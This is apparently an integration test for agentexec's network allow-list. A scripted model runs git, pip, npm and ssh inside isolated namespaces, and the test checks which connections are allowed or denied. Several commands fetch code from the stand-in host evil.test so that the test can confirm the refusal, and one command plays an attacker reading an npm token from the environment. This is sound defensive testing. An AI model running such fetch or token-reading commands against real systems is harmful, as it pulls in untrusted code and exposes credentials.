#!/usr/bin/env python3
"""Real package and VCS clients through the network allow-list, each connection on the record.

Each case runs `agentexec exec -s workspace-write` with a `network.allow` that lists only what
that case needs, a scripted model running the clients as commands, and checks what they
printed and the JSONL's network_request items (protocol, host, port, decision, reason). Every
case also asks for the same thing from evil.test, which is not allowed: the client fails, the
item says denied, the model is told how to allow it, and evil.test's server (where it has one)
never sees a request.

  net_clients_git_https      git clone https://allowed.test/repo.git (`git http-backend` over
                             TLS, the test CA in GIT_SSL_CAINFO), and from evil.test
  net_clients_pip            pip install --target from a PEP 503 index over HTTPS (--cert), of
                             a wheel made at test time, and from evil.test's index
  net_clients_npm_verdaccio  npm install of a package (and its dependency) published to a real
                             verdaccio on allowed.test:4873, over plain HTTP, and from evil.test
  net_clients_npm_brokered_token
                             npm install of a scoped package that verdaccio (over https) serves
                             only with a token: passed to commands, they can print it; brokered
                             ([network.credentials]), npm works with the dummy and no
                             command's environment or event holds the token
  net_clients_presets        allow = ["@github", "@pypi"]: git clone from github.com and pip
                             install from pypi.org (names this test's resolver maps to its
                             server), and a host no preset names refused
  net_clients_ssh_socks5     ssh through the SOCKS5 proxy with OpenBSD `nc -X 5`, and git clone
                             over ssh with agentexec's own GIT_SSH_COMMAND, to allowed.test:22
                             only when it is listed (allowed.test alone means 80 and 443)

The namespaces are those of tests/net/netns.py, made by this test itself: A, where agentexec
runs, and B, "the internet" (allowed.test = 198.51.100.2, evil.test = 198.51.100.3), with this
test's own servers (tests/engines/net_clients_servers.py, verdaccio, sshd); the proxy resolves
the two names through AGENTEXEC_NET_FAKE_HOSTS. Nothing leaves the namespaces: B has no route
but to A, and A none at all. The test re-executes itself in a user and network namespace of its
own: as root, one mapping uids and gids 0-65535 with setgroups allowed, which sshd's privilege
separation needs (setgroups, the sshd user); otherwise `unshare -Urn`, where the ssh case skips.

A case whose tools are missing skips, naming the Debian package (or, for verdaccio, which the
npm registry has, where to put it): verdaccio is looked for in $VERDACCIO, on PATH, in
.test-tools/verdaccio of the source tree and in engines/verdaccio beside the binary.

Usage: net_clients_test.py AGENTEXEC [--tally FILE]
  prints a PASS/FAIL/SKIP line per case (FILE gets them tab-separated, for tests/engines/run.sh)
  and "net_clients: N passed, M failed, K skipped"; exits 0 unless a case failed.
"""
import ctypes
import glob
import json
import os
import pwd
import shutil
import socket
import ssl
import subprocess
import sys
import tempfile
import time
import types
import unittest
import urllib.error
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
SOURCE = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(SOURCE, "tests", "net"))
sys.path.insert(0, HERE)
from netns import ALLOWED, EVIL, Net, make_ca, sh, turns  # noqa: E402
import net_clients_servers as srv  # noqa: E402

AGENTEXEC = ""
# The presets' real names too, served by allowed.test's server: a task with allow = ["@github",
# "@pypi"] reaches them as it would the real ones, and nothing else.
PRESET_NAMES = ("github.com", "pypi.org", "files.pythonhosted.org")
FAKE_HOSTS = ";".join([f"allowed.test={ALLOWED}", f"evil.test={EVIL}"] +
                      [f"{name}={ALLOWED}" for name in PRESET_NAMES])
A_SIDE = "198.51.100.1"  # namespace A's end of the veth (netns.py): where the proxy dials from
# The commands' PATH (bash -lc may set its own from /etc/profile); npm's folder is added.
AGENT_PATH = "/usr/local/bin:/usr/bin:/bin"
CASES = {
    "test_git_clone_over_https": "net_clients_git_https",
    "test_pip_install_from_an_index": "net_clients_pip",
    "test_npm_install_from_verdaccio": "net_clients_npm_verdaccio",
    "test_ssh_through_socks5": "net_clients_ssh_socks5",
    "test_presets_reach_their_registries": "net_clients_presets",
    "test_npm_scoped_package_with_a_brokered_token": "net_clients_npm_brokered_token",
}
VERDACCIO_INSTALL = (
    "mkdir -p DIR && cd DIR && echo '{\"dependencies\":{\"verdaccio\":\"6.8.0\"},"
    "\"overrides\":{\"node-fetch\":\"2.7.0\"}}' > package.json && npm install")


def no_proxy_get(url, data=None, method=None, headers=None, timeout=5, ca=None):
    """An HTTP request from namespace A straight to B, whatever proxy the caller's env names
    (`ca`: the CA an https:// server's certificate is checked against)."""
    handlers = [urllib.request.ProxyHandler({})]
    if ca is not None:
        # By address from A (no resolver there): the chain is checked, the name cannot be.
        context = ssl.create_default_context(cafile=ca)
        context.check_hostname = False
        handlers.append(urllib.request.HTTPSHandler(context=context))
    opener = urllib.request.build_opener(*handlers)
    req = urllib.request.Request(url, data=data, method=method, headers=headers or {})
    with opener.open(req, timeout=timeout) as r:
        return r.status, r.read()


def wait_for(what, check, seconds=30):
    deadline = time.monotonic() + seconds
    while True:
        try:
            if check():
                return
        except OSError:
            pass
        if time.monotonic() > deadline:
            raise AssertionError(f"{what} did not start in {seconds} s")
        time.sleep(0.2)


def read(path):
    with open(path) as f:
        return f.read()


def find_verdaccio():
    build = os.path.dirname(AGENTEXEC)
    for c in (os.environ.get("VERDACCIO"), shutil.which("verdaccio"),
              os.path.join(SOURCE, ".test-tools", "verdaccio", "node_modules", ".bin", "verdaccio"),
              os.path.join(build, "engines", "verdaccio", "node_modules", ".bin", "verdaccio")):
        if c and os.access(c, os.X_OK):
            return c
    return None


class NetClientsTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.dir = tempfile.mkdtemp(prefix="ae-net-clients-")
        cls.procs, cls.net = [], None
        try:
            cls.set_up()
        except BaseException:
            cls.tearDownClass()
            raise

    @classmethod
    def set_up(cls):
        make_ca(cls.dir, ("allowed.test", "evil.test", *PRESET_NAMES))
        cls.ca = os.path.join(cls.dir, "ca.pem")
        cls.net = Net(cls.dir, servers=False)
        cls.git_root = os.path.join(cls.dir, "git")
        os.makedirs(cls.git_root)
        srv.make_git_repo(cls.git_root)
        cls.docroot = os.path.join(cls.dir, "www")
        cls.project = srv.make_wheel_index(cls.docroot)
        cls.https_log = os.path.join(cls.dir, "https.log")
        open(cls.https_log, "w").close()
        https = cls.in_b([sys.executable, srv.__file__, f"{cls.dir}/srv.pem", f"{cls.dir}/srv.key",
                          cls.docroot, cls.git_root, cls.https_log, ALLOWED, EVIL],
                         stdout=subprocess.PIPE, text=True)
        assert https.stdout.readline().strip() == "ready"
        npm = shutil.which("npm")
        cls.path = AGENT_PATH
        if npm and os.path.dirname(npm) not in AGENT_PATH.split(":"):
            cls.path = os.path.dirname(npm) + ":" + AGENT_PATH

    @classmethod
    def tearDownClass(cls):
        for p in reversed(cls.procs):
            p.kill()
            p.wait()
        if cls.net is not None:
            cls.net.close()
        if os.environ.get("AE_NET_CLIENTS_KEEP") != "1":
            shutil.rmtree(cls.dir, ignore_errors=True)

    @classmethod
    def in_b(cls, argv, log=None, **kw):
        """A process in namespace B, killed at the end; with `log`, its output goes there."""
        if log is not None:
            with open(log, "w") as f:
                p = subprocess.Popen(["nsenter", "-t", str(cls.net.pid), "-n", *argv], stdout=f,
                                     stderr=subprocess.STDOUT, **kw)
        else:
            p = subprocess.Popen(["nsenter", "-t", str(cls.net.pid), "-n", *argv], **kw)
        cls.procs.append(p)
        return p

    @staticmethod
    def stop(process):
        """Ends a server a case started (the next case's may take its port)."""
        process.kill()
        process.wait()

    def agent_env(self):
        return {"PATH": self.path, "HOME": self.dir, "LANG": "C.UTF-8",
                "AGENTEXEC_HOME": os.path.join(self.dir, "home"),
                "AGENTEXEC_NET_FAKE_HOSTS": FAKE_HOSTS, "CA": self.ca}

    def in_agent_shell(self, command):
        """What `command` gives in the shell agentexec runs commands with (bash -lc), unsandboxed:
        to look for a tool before a case relies on it."""
        return subprocess.run(["bash", "-lc", command], env=self.agent_env(), capture_output=True,
                              text=True)

    def run_agent(self, commands, allow, extra=(), env=None, ws=None):
        """Runs the commands in a fresh workspace under the allow-list. Returns each command's
        output (`outputs`), what the model was sent for it (`for_model`, from the session's
        rollout), its network_request items as (protocol, host, port, decision, reason) tuples
        (`per_command`), the items themselves (`items`) and the final event's summary
        (`network`)."""
        ws = ws or tempfile.mkdtemp(prefix="ws-", dir=self.dir)
        sh(f"git init -q {ws}")
        script = os.path.join(ws, ".turns.json")
        with open(script, "w") as f:
            f.write(turns(commands))
        argv = [AGENTEXEC, "exec", "--json", "-s", "workspace-write", "-c",
                "model_provider=scripted", "-c", f'model_providers.scripted.script="{script}"',
                "-c", "network.allow=" + json.dumps(allow), *extra, "go"]
        out = subprocess.run(argv, cwd=ws, env={**self.agent_env(), **(env or {})},
                             capture_output=True, text=True, timeout=300)
        with open(os.path.join(ws, ".events.jsonl"), "w") as f:
            f.write(out.stdout)
        self.assertEqual(out.returncode, 0, out.stderr)
        events = [json.loads(line) for line in out.stdout.splitlines()]
        self.assertEqual(events[-1]["type"], "turn.completed")
        started = [e["item"]["id"] for e in events if e["type"] == "item.started"
                   and e["item"]["type"] == "command_execution"]
        done = {e["item"]["id"]: e["item"] for e in events if e["type"] == "item.completed"}
        self.assertEqual(len(started), len(commands), out.stdout)
        requests = [i for i in done.values() if i["type"] == "network_request"]
        r = types.SimpleNamespace(ws=ws, items=requests, network=events[-1].get("network"))
        r.outputs = [done.get(i, {}).get("aggregated_output") for i in started]
        r.per_command = [[(q["protocol"], q["host"], q["port"], q["decision"], q["reason"])
                          for q in requests if q["call_id"] == i] for i in started]
        self.assertEqual(sum(map(len, r.per_command)), len(requests),
                         "a network_request item names no command of the run")
        thread = events[0]["thread_id"]
        rollout = glob.glob(os.path.join(self.dir, "home", "sessions", "**",
                                         f"rollout-*-{thread}.jsonl"), recursive=True)
        self.assertEqual(len(rollout), 1, rollout)
        lines = [json.loads(line) for line in read(rollout[0]).splitlines()]
        r.for_model = [e["payload"]["output"] for e in lines if e.get("type") == "response_item"
                       and e["payload"].get("type") == "function_call_output"]
        self.assertEqual(len(r.for_model), len(commands))
        return r

    def assert_only(self, seen, expected):
        """Each of a command's connections is `expected` (and there is at least one)."""
        self.assertTrue(seen, "no network_request item")
        self.assertEqual(sorted(set(seen)), [expected], seen)

    def assert_refused(self, r, i, host, port, why, entry):
        """Command i's every connection was refused for `why`, and the model, after the command's
        output, was told so with the remedy (network.allow's entry)."""
        self.assert_only(r.per_command[i], ("https" if port == 443 else "socks5" if port == 22
                                            else "http", host, port, "denied", why))
        hint = (f"agentexec: network: {host}:{port} refused ({why}); to allow it, add "
                f"\"{entry}\" to network.allow (--allow-host {entry})")
        self.assertTrue(r.for_model[i].endswith("Output:\n" + r.outputs[i] + "\n" + hint),
                        r.for_model[i])

    def https_requests(self):
        return [line.split() for line in read(self.https_log).splitlines()]

    # --- the cases ---

    def test_git_clone_over_https(self):
        before = len(self.https_requests())
        r = self.run_agent([
            'GIT_SSL_CAINFO="$CA" git clone -q https://allowed.test/repo.git from-allowed && '
            "git -C from-allowed log --format=%s && cat from-allowed/README",
            'GIT_SSL_CAINFO="$CA" git clone -q https://evil.test/repo.git from-evil; '
            'echo "exit=$?"; test -e from-evil || echo "no clone"',
        ], ["allowed.test"])
        self.assertEqual(r.outputs, [
            "init\n" + srv.README,
            "fatal: unable to access 'https://evil.test/repo.git/': CONNECT tunnel failed, "
            "response 403\nexit=128\nno clone\n"])
        self.assert_only(r.per_command[0], ("https", "allowed.test", 443, "allowed", None))
        self.assert_refused(r, 1, "evil.test", 443, "not in network.allow", "evil.test")
        for item in r.items:
            if item["decision"] == "allowed":
                self.assertEqual(item["address"], ALLOWED)
                self.assertGreater(item["bytes_received"], 0)
        self.assertEqual(r.network, {"reached": ["allowed.test:443"],
                                     "refused": ["evil.test:443"]})
        # The server saw the smart-HTTP clone, all of it at allowed.test's address.
        seen = self.https_requests()[before:]
        self.assertEqual({(a, m, p.split("?")[0], c) for a, m, p, c in seen},
                         {(ALLOWED, "GET", "/repo.git/info/refs", "200"),
                          (ALLOWED, "POST", "/repo.git/git-upload-pack", "200")})

    def test_presets_reach_their_registries(self):
        # allow = ["@github", "@pypi"]: git clone from github.com and pip install from pypi.org
        # (the presets' own names, which this test's resolver maps to its server), and nothing
        # the presets do not name.
        if self.in_agent_shell("python3 -m pip --version").returncode != 0:
            self.skipTest("python3 has no pip: apt-get install python3-pip")
        pip = ("PIP_CONFIG_FILE=/dev/null python3 -m pip install -q --disable-pip-version-check "
               "--root-user-action=ignore --no-cache-dir --retries 0 --timeout 20 --cert \"$CA\" ")
        r = self.run_agent([
            'GIT_SSL_CAINFO="$CA" git clone -q https://github.com/repo.git g && cat g/README',
            pip + f"--index-url https://pypi.org/simple/ --target deps {self.project} && "
            f"PYTHONPATH=deps python3 -c 'import {srv.WHEEL_NAME} as m; print(m.hello())'",
            "curl -sS --cacert \"$CA\" https://allowed.test/ -o /dev/null 2>&1 | head -c 47; echo",
        ], ["@github", "@pypi"])
        self.assertEqual(r.outputs, [srv.README, f"hello from {srv.WHEEL_NAME} {srv.WHEEL_VERSION}\n",
                                     "curl: (56) CONNECT tunnel failed, response 403\n\n"])
        self.assertEqual(r.network, {"reached": ["github.com:443", "pypi.org:443"],
                                     "refused": ["allowed.test:443"]})
        rules = {i["host"]: i["rule"] for i in r.items if i["decision"] == "allowed"}
        self.assertEqual(rules, {"github.com": "@github: github.com", "pypi.org": "@pypi: pypi.org"})

    def test_pip_install_from_an_index(self):
        if self.in_agent_shell("python3 -m pip --version").returncode != 0:
            self.skipTest("python3 has no pip: apt-get install python3-pip")
        pip = ("PIP_CONFIG_FILE=/dev/null python3 -m pip install -q --disable-pip-version-check "
               "--root-user-action=ignore --no-cache-dir --retries 0 --timeout 20 --cert \"$CA\" ")
        before = len(self.https_requests())
        r = self.run_agent([
            pip + f"--index-url https://allowed.test/simple/ --target deps {self.project} && "
            f"PYTHONPATH=deps python3 -c 'import {srv.WHEEL_NAME} as m; print(m.hello())'",
            pip + f"--index-url https://evil.test/simple/ --target deps2 {self.project}; "
            "echo \"exit=$?\"; test -e deps2 || echo no deps2",
        ], ["allowed.test"])
        self.assertEqual(r.outputs, [
            f"hello from {srv.WHEEL_NAME} {srv.WHEEL_VERSION}\n",
            f"ERROR: Could not find a version that satisfies the requirement {self.project} "
            f"(from versions: none)\nERROR: No matching distribution found for {self.project}\n"
            "exit=1\nno deps2\n"])
        self.assert_only(r.per_command[0], ("https", "allowed.test", 443, "allowed", None))
        self.assert_refused(r, 1, "evil.test", 443, "not in network.allow", "evil.test")
        self.assertEqual(r.network, {"reached": ["allowed.test:443"],
                                     "refused": ["evil.test:443"]})
        seen = self.https_requests()[before:]
        self.assertEqual({(a, m, p.split("#")[0], c) for a, m, p, c in seen},
                         {(ALLOWED, "GET", f"/simple/{self.project}/", "200"),
                          (ALLOWED, "GET", f"/packages/{srv.WHEEL_NAME}-{srv.WHEEL_VERSION}"
                                           "-py3-none-any.whl", "200")})

    def start_verdaccio(self, name, packages_rule, tls=False):
        """A verdaccio of its own on allowed.test:4873 (`packages_rule`: its `packages:` YAML),
        with a throwaway user made through its API: (registry URL, the user's token, its
        log's path, the environment npm publishes with)."""
        for tool, package in (("node", "nodejs"), ("npm", "npm")):
            if self.in_agent_shell(f"command -v {tool}").returncode != 0:
                self.skipTest(f"{tool} is not installed: apt-get install {package}")
        verdaccio = find_verdaccio()
        if verdaccio is None:
            self.skipTest("verdaccio is not installed (npm's registry has it; nothing is fetched "
                          "at test time): " + VERDACCIO_INSTALL.replace(
                              "DIR", os.path.join(os.path.dirname(AGENTEXEC), "engines",
                                                  "verdaccio")) +
                          ", or set VERDACCIO to its bin/verdaccio")
        vd = os.path.join(self.dir, name)
        os.makedirs(os.path.join(vd, "storage"))
        with open(os.path.join(vd, "config.yaml"), "w") as f:
            f.write(f"storage: {vd}/storage\n"
                    f"auth:\n  htpasswd:\n    file: {vd}/htpasswd\n    max_users: 10\n"
                    "uplinks: {}\n"
                    f"packages:\n{packages_rule}"
                    + (f"https:\n  key: {self.dir}/srv.key\n  cert: {self.dir}/srv.pem\n"
                       f"listen: https://{ALLOWED}:4873\n" if tls else
                       f"listen: {ALLOWED}:4873\n") +
                    "web:\n  enable: false\n"
                    "log: {type: stdout, format: pretty, level: http}\n")
        log_path = os.path.join(vd, "verdaccio.log")
        server = self.in_b([verdaccio, "--config", os.path.join(vd, "config.yaml")], log=log_path,
                           env={**os.environ, "PATH": self.path})
        registry = f"{'https' if tls else 'http'}://{ALLOWED}:4873/"
        ca = self.ca if tls else None
        wait_for("verdaccio", lambda: no_proxy_get(registry + "-/ping", ca=ca)[0] == 200)
        # A throwaway user through the registry's API, then both packages published from A.
        _, body = no_proxy_get(registry + "-/user/org.couchdb.user:ae-tester", method="PUT",
                               data=json.dumps({"name": "ae-tester", "password": "ae-secret-1",
                                                "email": "t@example.com"}).encode(),
                               headers={"Content-Type": "application/json"}, ca=ca)
        token = json.loads(body)["token"]
        npmrc = os.path.join(vd, "npmrc")
        with open(npmrc, "w") as f:
            f.write(f"registry={registry}\n//{ALLOWED}:4873/:_authToken={token}\n")
        publish_env = {"PATH": self.path, "HOME": vd, "npm_config_userconfig": npmrc,
                       # By address from A: npm cannot check the name (the commands' npm does).
                       **({"npm_config_strict_ssl": "false"} if tls else {}),
                       "npm_config_cache": os.path.join(vd, "cache"),
                       "npm_config_update_notifier": "false"}
        return registry, token, log_path, publish_env, server, vd

    def test_npm_install_from_verdaccio(self):
        # verdaccio on allowed.test:4873 (it listens on one address only; evil.test's requests
        # are refused before any is dialled), anyone may read and publish, no uplink.
        registry, token, log_path, publish_env, server, vd = self.start_verdaccio(
            "verdaccio", "  '**':\n    access: $all\n    publish: $all\n    unpublish: $all\n")
        self.addCleanup(self.stop, server)
        for package in srv.make_npm_packages(os.path.join(vd, "packages")):
            done = subprocess.run(["npm", "publish", "--registry", registry], cwd=package,
                                  env=publish_env, capture_output=True, text=True, timeout=120)
            self.assertEqual(done.returncode, 0, done.stdout + done.stderr)

        npm = ("npm install --no-audit --no-fund --no-update-notifier --loglevel=error "
               "--fetch-retries=0 --cache \"$PWD/../npm-cache\"")
        r = self.run_agent([
            f"mkdir app && cd app && {npm} --registry http://allowed.test:4873/ {srv.NPM_TOP} "
            ">../npm.log 2>&1; echo \"npm exit=$?\"; "
            f"node -e 'console.log(require(\"{srv.NPM_TOP}\").hello())' 2>&1 | head -1",
            f"mkdir app2 && cd app2 && {npm} --registry http://evil.test:4873/ {srv.NPM_TOP} "
            ">../npm2.log 2>&1; echo \"npm exit=$?\"; "
            "grep -E '^npm error (code|403 403)' ../npm2.log",
        ], ["allowed.test:4873"])
        npm_log = read(os.path.join(r.ws, "npm.log"))
        self.assertEqual(r.outputs[0], f"npm exit=0\nhello from {srv.NPM_TOP} {srv.NPM_VERSION} "
                                       f"({srv.NPM_LEAF} {srv.NPM_VERSION})\n",
                         f"npm's log: {npm_log}\nitems: {r.items}\nverdaccio's log: "
                         f"{read(log_path)[-1500:]}")
        self.assertEqual(r.outputs[1], "npm exit=1\nnpm error code E403\nnpm error 403 403 "
                                       f"Forbidden - GET http://evil.test:4873/{srv.NPM_TOP}\n")
        self.assert_only(r.per_command[0], ("http", "allowed.test", 4873, "allowed", None))
        self.assert_refused(r, 1, "evil.test", 4873, "not in network.allow", "evil.test:4873")
        # Two documents and two tarballs, each a GET of its own through the plain HTTP proxy.
        got = [i for i in r.items if i["decision"] == "allowed"]
        self.assertGreaterEqual(len(got), 4)
        self.assertEqual({(i["method"], i["address"]) for i in got}, {("GET", ALLOWED)})
        for i in got:
            self.assertGreater(i["bytes_received"], 0)
        self.assertEqual(r.network, {"reached": ["allowed.test:4873"],
                                     "refused": ["evil.test:4873"]})

    def test_npm_scoped_package_with_a_brokered_token(self):
        # Packages under @ae/ need a logged-in user: the token. Attacker first: passed to the
        # commands in NPM_TOKEN, npm works and the token is theirs to print; brokered
        # ([network.credentials.npm]), npm works with the dummy and the token is nowhere. Over
        # https: the broker puts a credential into no plain HTTP request.
        registry, token, log_path, publish_env, server, vd = self.start_verdaccio(
            "verdaccio-auth", "  '@ae/*':\n    access: $authenticated\n"
            "    publish: $authenticated\n  '**':\n    access: $all\n    publish: $all\n",
            tls=True)
        self.addCleanup(self.stop, server)
        pkg = os.path.join(vd, "packages", "private")
        os.makedirs(pkg)
        with open(os.path.join(pkg, "package.json"), "w") as f:
            json.dump({"name": "@ae/private", "version": "1.0.0", "main": "index.js",
                       "license": "MIT", "description": "needs the token"}, f)
        with open(os.path.join(pkg, "index.js"), "w") as f:
            f.write('exports.hello = () => "hello from @ae/private";\n')
        done = subprocess.run(["npm", "publish", "--registry", registry], cwd=pkg, env=publish_env,
                              capture_output=True, text=True, timeout=120)
        self.assertEqual(done.returncode, 0, done.stdout + done.stderr)
        with self.assertRaisesRegex(urllib.error.HTTPError, "401"):  # none without the token
            no_proxy_get(registry + "@ae%2fprivate", ca=self.ca)
        npm = ("npm install --no-audit --no-fund --no-update-notifier --loglevel=error "
               "--fetch-retries=0 --cache \"$PWD/../npm-cache\" @ae/private >../npm.log 2>&1; "
               "echo \"npm exit=$?\"; node -e 'console.log(require(\"@ae/private\").hello())'")
        look = "env | grep -c -- \"$(printf %s \"$T_REV\" | rev)\""
        cases = {
            "passed": ["-c", "shell_environment_policy.ignore_default_excludes=true"],
            "brokered": ["-c", 'network.credentials.npm.hosts=["allowed.test:4873"]',
                         "-c", 'network.credentials.npm.env="NPM_TOKEN"'],
        }
        got = {}
        for name, extra in cases.items():
            ws = tempfile.mkdtemp(prefix=f"ws-{name}-", dir=self.dir)
            os.makedirs(os.path.join(ws, "app"))
            # The project's own .npmrc, as a private package's repository carries it.
            with open(os.path.join(ws, "app", ".npmrc"), "w") as f:
                f.write("@ae:registry=https://allowed.test:4873/\n"
                        "//allowed.test:4873/:_authToken=${NPM_TOKEN}\n")
            r = self.run_agent([f"cd app && {npm}", look], ["allowed.test:4873"], extra,
                               {"NPM_TOKEN": token, "T_REV": token[::-1],
                                # The proxy checks verdaccio's certificate against the test's
                                # CA; passed, npm does.
                                "SSL_CERT_FILE": self.ca, "npm_config_cafile": self.ca}, ws)
            got[name] = r
            self.assertEqual(r.outputs[0], "npm exit=0\nhello from @ae/private\n",
                             f"{name}: npm's log: {read(os.path.join(ws, 'npm.log'))}")
        self.assertEqual(got["passed"].outputs[1], "1\n")  # the attacker's: the token itself
        self.assertEqual(got["brokered"].outputs[1], "0\n")
        brokered = [i for i in got["brokered"].items if i.get("credentials") == ["npm"]]
        self.assertTrue(brokered, got["brokered"].items)
        self.assertEqual({(i["method"], i["host"], i["port"]) for i in brokered},
                         {("GET", "allowed.test", 4873)})
        with open(os.path.join(got["brokered"].ws, ".events.jsonl")) as f:
            self.assertNotIn(token, f.read())

    def test_ssh_through_socks5(self):
        for tool, package in (("/usr/sbin/sshd", "openssh-server"), ("ssh", "openssh-client"),
                              ("ssh-keygen", "openssh-client")):
            if shutil.which(tool) is None:
                self.skipTest(f"{tool} is not installed: apt-get install {package}")
        if "-X proxy_protocol" not in self.in_agent_shell("nc -h 2>&1").stdout:
            self.skipTest("OpenBSD netcat (nc -X) is not installed: apt-get install netcat-openbsd")
        setgroups = read("/proc/self/setgroups").strip()
        uids = [tuple(map(int, line.split())) for line in read("/proc/self/uid_map").splitlines()]
        try:
            privsep = pwd.getpwnam("sshd").pw_uid
        except KeyError:
            self.skipTest("no sshd user for sshd's privilege separation: apt-get install "
                          "openssh-server")
        if setgroups != "allow" or not any(i <= privsep < i + n for i, _, n in uids):
            self.skipTest("sshd's privilege separation calls setgroups() and switches to the sshd "
                          "user, which an unprivileged user namespace cannot: run the test as root")
        d = os.path.join(self.dir, "ssh")
        os.makedirs(d)
        for key in ("host", "user"):
            sh(f"ssh-keygen -q -t ed25519 -N '' -C {key} -f {d}/{key}")
        shutil.copy(f"{d}/user.pub", f"{d}/authorized_keys")
        with open(f"{d}/sshd_config", "w") as f:
            f.write(f"Port 22\nListenAddress {ALLOWED}\nListenAddress {EVIL}\n"
                    f"HostKey {d}/host\nAuthorizedKeysFile {d}/authorized_keys\n"
                    "PermitRootLogin prohibit-password\nStrictModes no\nUsePAM no\n"
                    "PasswordAuthentication no\nKbdInteractiveAuthentication no\n"
                    "PidFile none\nLogLevel VERBOSE\n")
        # sshd wants /run/sshd, its privilege separation's empty chroot: in a mount namespace of
        # its own, on a tmpfs, so that the host's /run is left alone.
        log_path = f"{d}/sshd.log"
        self.in_b(["unshare", "-m", "sh", "-c", "mount -t tmpfs tmpfs /run && "
                   f"mkdir -m 755 /run/sshd && exec /usr/sbin/sshd -D -e -f {d}/sshd_config"],
                  log=log_path)

        def banner():
            with socket.create_connection((ALLOWED, 22), timeout=2) as s:
                return s.recv(64).startswith(b"SSH-2.0-OpenSSH")
        wait_for("sshd", banner)

        # (A variable named *KEY* would not reach the command: the default environment policy
        # leaves such names out.)
        opts = ("-F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no "
                f"-o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -i {d}/user")
        ssh = (f"ssh {opts} -o ProxyCommand=\"nc -X 5 -x 127.0.0.1:${{ALL_PROXY##*:}} %h %p\" "
               "root@HOST echo hi")
        r = self.run_agent([
            ssh.replace("HOST", "allowed.test"),
            # agentexec's own GIT_SSH_COMMAND, this key and no host key check added.
            f"GIT_SSH_COMMAND=\"$GIT_SSH_COMMAND {opts}\" git clone -q "
            f"root@allowed.test:{self.git_root}/repo.git over-ssh && cat over-ssh/README",
        ], ["allowed.test:22"])
        self.assertEqual(r.outputs, ["hi\n", srv.README])
        for seen in r.per_command:
            self.assert_only(seen, ("socks5", "allowed.test", 22, "allowed", None))
        for item in r.items:
            self.assertEqual((item["method"], item["address"]), (None, ALLOWED))
            self.assertGreater(item["bytes_received"], 0)
        self.assertEqual(r.network, {"reached": ["allowed.test:22"], "refused": []})
        text = read(log_path)
        self.assertEqual(text.count(f"Accepted publickey for root from {A_SIDE} "), 2, text)
        connections = text.count("Connection from")

        # allowed.test alone means ports 80 and 443; evil.test not at all.
        r = self.run_agent([
            ssh.replace("HOST", "allowed.test") + "; echo \"exit=$?\"",
            ssh.replace("HOST", "evil.test") + "; echo \"exit=$?\"",
        ], ["allowed.test"])
        for out in r.outputs:
            self.assertEqual(out, "nc: connection failed, SOCKSv5 error: Connection not allowed by "
                                  "ruleset\nkex_exchange_identification: Connection closed by "
                                  "remote host\r\nexit=255\n")
        self.assert_refused(r, 0, "allowed.test", 22, "port 22 is not allowed for this host",
                            "allowed.test:22")
        self.assert_refused(r, 1, "evil.test", 22, "not in network.allow", "evil.test:22")
        self.assertEqual(r.network, {"reached": [],
                                     "refused": ["allowed.test:22", "evil.test:22"]})
        self.assertEqual(read(log_path).count("Connection from"), connections)  # none new


class Tally(unittest.TextTestResult):
    """Each case's verdict, for the PASS/FAIL/SKIP lines."""
    verdicts = []

    def _add(self, verdict, test, why=""):
        name = CASES.get(getattr(test, "_testMethodName", ""), "net_clients_setup")
        self.verdicts.append((verdict, name, " ".join(why.split())[:400]))

    def addSuccess(self, test):
        super().addSuccess(test)
        self._add("PASS", test)

    def addSkip(self, test, reason):
        super().addSkip(test, reason)
        self._add("SKIP", test, reason)

    def addFailure(self, test, err):
        super().addFailure(test, err)
        self._add("FAIL", test, str(err[1]))

    def addError(self, test, err):
        super().addError(test, err)
        self._add("FAIL", test, f"{err[0].__name__}: {err[1]}")


def report(verdicts, tally):
    for verdict, name, why in verdicts:
        print(f"{verdict} {name}" + (f": {why}" if why else ""), flush=True)
    if tally:
        with open(tally, "w") as f:
            f.writelines(f"{v}\t{n}\t{w}\n" for v, n, w in verdicts)
    count = {v: sum(1 for x in verdicts if x[0] == v) for v in ("PASS", "FAIL", "SKIP")}
    print(f"net_clients: {count['PASS']} passed, {count['FAIL']} failed, {count['SKIP']} skipped")
    return 1 if count["FAIL"] else 0


def enter_as_root(argv, env):
    """Root: a user and network namespace mapping uids and gids 0-65535 to themselves, with
    setgroups allowed (sshd needs both); the child unshares, the parent writes its maps. Returns
    the child's exit code, or None when no such namespace can be made here."""
    libc = ctypes.CDLL(None, use_errno=True)
    ready_r, ready_w = os.pipe()
    go_r, go_w = os.pipe()
    sys.stdout.flush()
    sys.stderr.flush()
    pid = os.fork()
    if pid == 0:
        os.close(ready_r)
        os.close(go_w)
        ok = libc.unshare(0x10000000 | 0x40000000) == 0  # CLONE_NEWUSER | CLONE_NEWNET
        os.write(ready_w, b"1" if ok else b"0")
        if not ok or os.read(go_r, 1) != b"1":
            os._exit(0)
        os.execve(sys.executable, argv, env)
    os.close(ready_w)
    os.close(go_r)
    ok = os.read(ready_r, 1) == b"1"
    if ok:
        try:
            for name in ("uid_map", "gid_map"):
                with open(f"/proc/{pid}/{name}", "w") as f:
                    f.write("0 0 65536\n")
        except OSError:
            ok = False
    os.write(go_w, b"1" if ok else b"0")
    _, status = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(status) if ok else None


def main():
    global AGENTEXEC
    if len(sys.argv) not in (2, 4) or (len(sys.argv) == 4 and sys.argv[2] != "--tally"):
        print("usage: net_clients_test.py AGENTEXEC [--tally FILE]", file=sys.stderr)
        return 2
    AGENTEXEC = os.path.abspath(sys.argv[1])
    tally = sys.argv[3] if len(sys.argv) == 4 else None
    if os.environ.get("AE_NET_INSIDE") != "1":
        why = None
        for tool, package in (("unshare", "util-linux"), ("nsenter", "util-linux"),
                              ("ip", "iproute2"), ("openssl", "openssl"), ("git", "git")):
            if shutil.which(tool) is None:
                why = f"{tool} is not installed: apt-get install {package}"
                break
        argv = [sys.executable, os.path.abspath(__file__), *sys.argv[1:]]
        env = dict(os.environ, AE_NET_INSIDE="1")
        if why is None and os.geteuid() == 0:
            code = enter_as_root(argv, env)
            if code is not None:
                return code
        if why is None:
            probe = subprocess.run(["unshare", "-Urn", "true"], capture_output=True, text=True)
            if probe.returncode != 0:
                why = f"cannot make a user and network namespace here: {probe.stderr.strip()}"
        if why is not None:
            return report([("SKIP", c, why) for c in CASES.values()], tally)
